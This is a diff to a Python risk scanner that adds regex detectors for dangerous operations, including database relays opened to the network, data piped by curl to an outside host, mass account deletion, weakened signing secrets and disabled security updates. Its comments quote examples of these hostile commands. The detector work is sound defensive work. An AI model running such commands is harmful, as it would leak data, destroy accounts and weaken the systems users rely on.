@@ -33,6 +33,7 @@ from sandlot.risk.coordination import coordination_risks
 from sandlot.risk.crm import crm_text_risks
 from sandlot.risk.data_platforms import data_platform_text_risks
 from sandlot.risk.destinations import (
+    chat_webhook,
     hosts_file_hijack,
     internal_host,
     lookalike_repository,
@@ -78,12 +79,14 @@ from sandlot.risk.headless_cms import headless_cms_risks
 from sandlot.risk.home_automation import home_automation_risks
 from sandlot.risk.hypervisors import vsphere_estate_risks
 from sandlot.risk.identity import (
+    development_only,
     directory_text_risks,
     federation_risks,
     identity_provider_risks,
     literal_password_admin,
     personal_admin_grant,
     saml_risks,
+    token_planted,
     vault_superuser,
 )
 from sandlot.risk.identity_brokers import identity_broker_risks
@@ -745,6 +748,13 @@ _LOCAL_BINDING_OPENED = re.compile(r"(?:\bsed\b|\bre\.sub\(|\.replace\()[^\n]*12
                                    r"(?:0\\?\.0\\?\.0\\?\.0:|/\s*[\"']?\d+:\d+)")  # fmt: skip
 #: A database's or a cache's port published on every interface in a compose file (`"0.0.0.0:5432:5432"`).
 _DATABASE_PORT_PUBLISHED = re.compile(r"[\"'-]\s*0\.0\.0\.0:\d+:(?:5432|3306|6379|27017|9200|11211|5984|9042)\b")
+#: A socat container published on every interface that relays to a database (`docker run -p 0.0.0.0:15432:15432
+#: alpine/socat tcp-listen:15432,fork tcp-connect:db:5432`): the database opened to whoever reaches the host.
+_DATABASE_RELAY_PUBLISHED = re.compile(
+    r"\bdocker\s+run\b(?=[^\n]*(?:\\\n[^\n]*)*?\s(?:-p|--publish)[\s=]+(?!127\.|localhost)(?:0\.0\.0\.0:)?\d+:\d+)"
+    r"[^\n]*(?:\\\n[^\n]*)*?\bsocat\b[^\n]*\btcp(?:-connect|[46])?:[\w.-]+:(?:5432|3306|6379|27017|9200|11211|5984|9042"
+    r"|1433|1521)\b"
+)
 #: Every running service listed, then each one stopped, disabled or masked (sshd and the machine's agents with them).
 _EVERY_SERVICE_STOPPED = re.compile(r"\bsystemctl[\"',\s]+list-units\b(?![^\n]*\bgrep\s+(?!-v))[\s\S]{0,400}?"
                                     r"\bsystemctl[\"',\s]+(?:stop|disable|mask|kill)\b")  # fmt: skip
@@ -789,7 +799,10 @@ _NODE_ENVIRONMENT_SENT = re.compile(r"\b(?:end|write|send|body\s*:)\s*\(?\s*JSON
 #: An application's own login switched off in its settings (`cfg.setdefault("auth", {})["enabled"] = False`,
 #: YAML's `auth:` block with `enabled: false`).
 _AUTH_SECTION_OFF = re.compile(r"[\"']auth[\"'][^\n]{0,40}?\[\s*[\"']enabled[\"']\s*\]\s*=\s*False\b"
-                               r"|^\s*auth:\s*\n\s+enabled:\s*false\b", re.MULTILINE)  # fmt: skip
+                               r"|^\s*auth:\s*\n\s+enabled:\s*false\b"
+                               # (a reconfigure command's or a settings file's authentication type set to none)
+                               r"|--auth[_-]type[= ]+[\"']?none\b|\bauth[_-]type[\"']?\s*(?:=>|[=:])\s*[\"']?none\b",
+                               re.MULTILINE | re.IGNORECASE)  # fmt: skip
 #: Every message of a broker's topic tree republished to another broker (`mosquitto_sub -t 'x/#' | … mosquitto_pub
 #: -h mqtt.example.net`).
 _BROKER_MIRRORED = re.compile(r"\bmosquitto_sub\b[^\n]*-h\s+([\w.-]+)[^\n]*#[\s\S]{0,300}?\bmosquitto_pub\b[^\n]*-h\s+"
@@ -807,9 +820,52 @@ _ORGANISATION_DELETED = re.compile(
     r"(?:-X\s*DELETE\b[^\n]*(?:\\\n[^\n]*)*?|\.delete\(\s*f?[\"'][^\"'\n]*?)"
     r"/(?:organizations|orgs|organisations|tenants)/[^/\s\"']+/?[\"'\s)]"
 )
+#: An invitation that makes an address spelled in the code an owner or administrator (`post(f"…/space/{id}/invitation/
+#: email", json={"emails": [INVITEE], "role": "owner"})`, Baserow's `"permissions":"ADMIN"`): run for each workspace a
+#: listing gives, someone gets control of all of them.
+_ADMIN_INVITATION = re.compile(r"invit[\s\S]{0,400}?\\?[\"']?(?:role|permissions)\\?[\"']?\s*[:=]\s*\\?[\"']"
+                               r"(?:owner|admin\w*)\b", re.IGNORECASE)
+_LITERAL_ADDRESS = re.compile(r"[\"'\[\s:][\w.+-]+@[\w-]+(?:\.[\w-]+)+[\"'\],\s]")
+#: Each account an application's list command gives deleted with its delete command (`for u in $(php
+#: cli/list-users.php); do php cli/delete-user.php --user "$u"; done`): no filter, every account and its data.
+_EVERY_ACCOUNT_DELETED = re.compile(
+    r"\bfor\s+(\w+)\s+in\s+\$\((?![^)]*\b(?:grep|awk|head|tail|sed)\b)[^)]*\blist[-_:]?(?:users?|accounts?|members?)\b[^)]*\)"
+    r"[\s;]*do\b[\s\S]{0,300}?\b(?:delete|remove|purge|destroy)[-_:]?(?:users?|accounts?|members?)\b[^\n]*\$\{?\1\b"
+)
+#: A webhook registered with an application (a request to its `…/webhooks` or `…/webhooks/create`) whose target is
+#: another host, subscribed to people's messages, chats or contacts: every one is copied there from now on.
+_WEBHOOK_REGISTERED = re.compile(r"/webhooks?(?:/create)?\b[\s\S]{0,400}?[\"']url[\"']\s*:\s*f?[\"']https?://([\w.-]+)")
+_MESSAGE_EVENTS = re.compile(r"[\"'](?:message_created|conversation_created|contact_(?:created|updated)|CHAT"
+                             r"|chat_message\w*|message\.(?:created|new)|new_message)[\"']")
+#: What a service returns to a logged-in request piped into an upload to another host (`curl -u admin:… http://
+#: 127.0.0.1:8080/api/admin/serverconfig | jq … | curl -d @- https://203.0.113.88/collect`).
+_READ_AND_RELAYED = re.compile(
+    r"\bcurl\b[^|\n]*(?:\\\n[^|\n]*)*?(?:\s-u\s|\s-H\s*[\"']?(?:Authorization|[\w-]*(?:token|key))\b)"
+    r"[^|]{0,300}?(?:https?://([\w.-]+)|[\"']\$\{?\w+)[^|]{0,300}?(?:\|[^|]{0,300}?)*?\|\s*curl\b[^|\n]*(?:\\\n[^|\n]*)*?@-"
+    r"[^|\n]*(?:\\\n[^|\n]*)*?https?://([\w.-]+)",
+    re.IGNORECASE,
+)
+#: Automatic security updates switched off (`APT::Periodic::Unattended-Upgrade "0"`, the unattended-upgrades or
+#: dnf-automatic service disabled or masked).
+_SECURITY_UPDATES_OFF = re.compile(r"APT::Periodic::Unattended-Upgrade\s+\\?[\"']0\\?[\"']"
+                                   r"|\b(?:disable|mask)\b[^\n]*\b(?:unattended-upgrades|dnf-automatic[\w.-]*)\b")
+#: An application's installer run again with its reset option (`bin/console wallabag:install --reset`): the database
+#: is dropped and made again empty.
+_REINSTALLED_WITH_RESET = re.compile(r"\b[\w-]+:install\b[^\n]*\s--reset\b")
+#: A token-signing secret set, in a settings write, to a short word (`sed -i 's/^NC_AUTH_JWT_SECRET=.*/
+#: NC_AUTH_JWT_SECRET=nocodb/' .env`): whoever guesses it forges any user's login.
+_SIGNING_SECRET_WEAKENED = re.compile(
+    r"^[^\n]*\b(?:sed|echo|printf|crudini|config:set|--env-add|set\s+env)\b[^\n]*\b(?:\w*JWT_SECRET\w*|SECRET_KEY_BASE|SECRET_KEY"
+    r"|APP_KEY|\w*SIGNING_(?:KEY|SECRET)|\w*SESSION_SECRET|\w*AUTH_SECRET)\s*[=:]\s*[\"']?[A-Za-z0-9_-]{1,12}(?=[\"'/\s]|$)",
+    re.MULTILINE,
+)
 #: Sign-up opened to anyone (`SENTRY_OPTIONS["auth.allow-registration"] = True`, `REGISTRATION_OPEN=True`).
 _SIGN_UP_OPENED = re.compile(r"allow[-_]registration[\"'\]]*\s*[=:]\s*(?:True|true|1)\b"
-                             r"|\bREGISTRATION_OPEN\s*=\s*[\"']?(?:True|true|1)\b", re.IGNORECASE)
+                             r"|\bREGISTRATION_OPEN\s*=\s*[\"']?(?:True|true|1)\b"
+                             # (`ENABLE_ACCOUNT_SIGNUP=true`, jq's `.signup.enabled = true`, `"invite_required": False`)
+                             r"|\bENABLE_\w*SIGN_?UPS?\s*=\s*[\"']?(?:True|true|1)\b"
+                             r"|\bsignup\.enabled\s*=\s*true\b|[\"']invite_required[\"']\s*:\s*False\b",
+                             re.IGNORECASE)
 #: A file watcher on the user's own folders (`inotifywait -m "$HOME/Downloads"`, `fswatch ~/Documents`).
 _WATCHED_USER_FOLDERS = re.compile(r"\b(?:inotifywait|fswatch)\b[^\n|]*(?:\$HOME|\$\{HOME\}|~)/(?:Downloads|Documents"
                                    r"|Desktop|Pictures|Movies|Music)\b")  # fmt: skip
@@ -841,6 +897,7 @@ _VEHICLE_BUS_WORDS = GateWords("cangen", "key", "APB,", "RMB,", "HSC,")
 _AGENT_APPROVAL_WORDS = GateWords("ermissions", "approv", "danger", "Bash(*)", "--yolo", "McpServers")
 _INSTRUCTION_WORDS = GateWords("IMPORTANT", "the user", "instructions")
 _ENCRYPTION_TOOL_WORDS = GateWords("openssl", "gpg", "7z")
+_SIGN_UP_WORDS = GateWords("registration", "sign_up", "signup", "invite_required", ignore_case=True)
 _NIX_WORDS = GateWords("trusted-users", "sandbox", "builtins.exec", "setuid", "wheelNeedsPassword", "require-sigs")
 
 
@@ -976,6 +1033,17 @@ _PLATFORM_CHECKS: tuple[_TextCheck, ...] = (
 )
 
 
+def _another_organisation(host: str, code: str, *, also: str = "") -> bool:
+    """``host`` belongs to no organisation ``code`` otherwise talks to (nor to ``also``'s) and is no chat webhook's
+    or internal name: a copy sent there leaves."""
+    if internal_host(host) or chat_webhook(f"https://{host}/"):
+        return False
+    own = {registered_domain(h) for h in url_hosts(code) if h != host}
+    if also:
+        own.add(registered_domain(also))
+    return registered_domain(host) not in own
+
+
 def whole_text_risks(code: str) -> list[tuple[str, OperationRisk]]:
     """``(rule suffix, risk)`` for each harm ``code`` spells as a whole."""
     found: list[tuple[str, OperationRisk]] = [("crm", risk) for risk in crm_text_risks(code)]
@@ -1022,6 +1090,9 @@ def whole_text_risks(code: str) -> list[tuple[str, OperationRisk]]:
         found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
     elif literal_password_admin(code):
         what = "creates an administrator with a password written in the code"
+        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
+    if token_planted(code):
+        what = "writes an API token spelled in the code into an application's token table (a standing credential)"
         found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
     firmware = foreign_firmware(code) if "OtaUrl" in code or "otaurl" in code else None
     if firmware:
@@ -1083,7 +1154,32 @@ def whole_text_risks(code: str) -> list[tuple[str, OperationRisk]]:
     if ("DELETE" in code or ".delete(" in code) and _ORGANISATION_DELETED.search(code):
         what = "deletes a whole organisation through an API (its projects, members and data with it)"
         found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
-    if ("egistration" in code or "REGISTRATION" in code) and _SIGN_UP_OPENED.search(code):
+    if "nvit" in code and _ADMIN_INVITATION.search(code) and each_item(code) and _LITERAL_ADDRESS.search(code):
+        what = "invites one address as owner or administrator of every workspace a listing gives"
+        found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
+    webhook = _WEBHOOK_REGISTERED.search(code) if "ebhook" in code else None
+    if webhook is not None and _MESSAGE_EVENTS.search(code) and _another_organisation(webhook[1], code):
+        what = f"registers a webhook that copies people's messages or contacts to another organisation ({webhook[1]})"
+        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
+    relayed_read = _READ_AND_RELAYED.search(code) if "@-" in code else None
+    if relayed_read is not None and _another_organisation(relayed_read[2], code, also=relayed_read[1] or ""):
+        what = f"sends what a service returns to a logged-in request on to another organisation ({relayed_read[2]})"
+        found.append(("exfiltration", OperationRisk(RiskLevel.HIGH, Category.EXFILTRATION, what)))
+    if ("nattended" in code or "dnf-automatic" in code) and _SECURITY_UPDATES_OFF.search(code):
+        what = "switches off the machine's automatic security updates"
+        found.append(("weakened-settings", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
+    if ":install" in code and _REINSTALLED_WITH_RESET.search(code):
+        what = "runs an application's installer again with --reset (its database dropped and made again empty)"
+        found.append(("drop-database", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
+    if "list" in code and _EVERY_ACCOUNT_DELETED.search(code):
+        what = "deletes every account an application lists, one after another (their data with them)"
+        found.append(("data-destroy", OperationRisk(RiskLevel.HIGH, Category.FILESYSTEM, what)))
+    if "SECRET" in code or "APP_KEY" in code or "SIGNING" in code:
+        weakened = _SIGNING_SECRET_WEAKENED.search(code)
+        if weakened is not None and not development_only(code):
+            what = "sets a token-signing secret to a short known word (anyone can forge a login token)"
+            found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
+    if _SIGN_UP_WORDS.any_in(code) and _SIGN_UP_OPENED.search(code):
         what = "opens an application's sign-up to anyone (whoever registers gets an account)"
         found.append(("identity", OperationRisk(RiskLevel.HIGH, Category.PRIVILEGE, what)))
     if "pm2" in code and _PM2_EMPTIED.search(code):
@@ -1094,6 +1190,9 @@ def whole_text_risks(code: str) -> list[tuple[str, OperationRisk]]:
         found.append(("service", OperationRisk(RiskLevel.HIGH, Category.PROCESS, what)))
     if "autoindex on" in code and _PEOPLES_FOLDER_SERVED.search(code):
         what = "has a web server list a folder of people's files (uploads, scans, exports) to anyone who asks"
+        found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
+    if "socat" in code and _DATABASE_RELAY_PUBLISHED.search(code):
+        what = "publishes a relay to a database on every interface of the host (its own login is all that guards it)"
         found.append(("exposure", OperationRisk(RiskLevel.HIGH, Category.NETWORK, what)))
     if "0.0.0.0:" in code and "compose" in code and _DATABASE_PORT_PUBLISHED.search(code):
         what = "publishes a database's or a cache's port on every interface (its own login is all that guards it)"
